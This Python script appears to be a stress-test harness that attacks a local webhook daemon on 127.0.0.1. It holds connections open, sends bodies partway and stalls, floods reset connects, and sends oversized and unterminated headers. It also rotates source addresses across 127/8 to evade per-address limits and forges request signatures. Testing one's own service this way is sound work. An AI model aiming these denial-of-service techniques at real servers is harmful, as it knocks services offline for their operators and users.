"""Strangers who mean harm: `attacker.py KIND PORT [COUNT]` attacks 127.0.0.1:PORT until it is stopped.

They know the form of what the daemon takes: their timestamps are fresh, their signatures 64 digits; only the secret
they have not. `many`: each connection from another address of 127/8, so that no budget of one address stops them.
"""
import itertools
import os
import random
import resource
import socket
import struct
import sys
import threading
import time

LARGE = 2 << 20
_ADDRESSES = itertools.count(random.randrange(1 << 20))
_THREADS = 8


def connect(port, many=True, patience=10):
    source = None
    if many:
        n = next(_ADDRESSES)
        source = (f"127.{16 + (n >> 16) % 200}.{n >> 8 & 255}.{n & 255}", 0)
    return socket.create_connection(("127.0.0.1", port), patience, source)


def head(length, *more):
    lines = ["POST /webhook HTTP/1.1", "Host: h", "Content-Type: application/json", f"Content-Length: {length}",
             f"X-Webhook-Timestamp: {int(time.time())}", f"X-Webhook-Signature: sha256={os.urandom(32).hex()}", *more]
    return "\r\n".join([*lines, "", ""]).encode()


def for_ever(attack):
    """In many threads, each over and over; that the daemon hangs up is no reason to stop."""
    def run():
        while True:
            try:
                attack()
            except OSError:
                time.sleep(0.0005)

    threads = [threading.Thread(target=run, daemon=True) for _ in range(_THREADS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def hold(port, count, first=b""):
    """So many connections at once, on which nothing comes after `first`; one that is closed is made again."""
    held = {}
    while True:
        for slot in range(count):
            if slot in held and not closed(held[slot]):
                continue
            try:
                held[slot] = connect(port)
                held[slot].settimeout(1)
                held[slot].sendall(first)
                held[slot].setblocking(False)
            except OSError:
                held.pop(slot, None)
        time.sleep(0.1)


def closed(connection):
    try:
        return connection.recv(4096) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


def idle(port, count):
    hold(port, count)


def halves(port, count):
    """Most of a large body, and then no more."""
    hold(port, count, head(LARGE) + bytes(LARGE * 9 // 10))


def small_halves(port, count):
    hold(port, count, head(60_000) + bytes(50_000))


def connects(port, _count):
    reset = struct.pack("ii", 1, 0)  # so that no port waits for its next use

    def attack():
        with connect(port) as connection:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, reset)

    for_ever(attack)


def bodies(port, _count, many=False):
    body = bytes(LARGE)

    def attack():
        with connect(port, many) as connection:
            connection.sendall(head(LARGE) + body)
            connection.recv(4096)

    for_ever(attack)


def many_bodies(port, count):
    bodies(port, count, many=True)


def heads(port, _count):
    """As large as they may be, many in a row; now and then one without an end."""
    fields = [f"X-{n}: {'v' * 150}" for n in range(90)]

    def attack():
        with connect(port) as connection:
            connection.sendall(head(0, *fields) * 15)
            connection.sendall(b"POST /webhook HTTP/1.1\r\nX-A: " + bytes(b"v" * 65536))
            while connection.recv(65536):
                pass

    for_ever(attack)


def main():
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    kind, port = sys.argv[1], int(sys.argv[2])
    count = int(sys.argv[3]) if len(sys.argv) > 3 else 0
    globals()[kind](port, count)


if __name__ == "__main__":
    main()
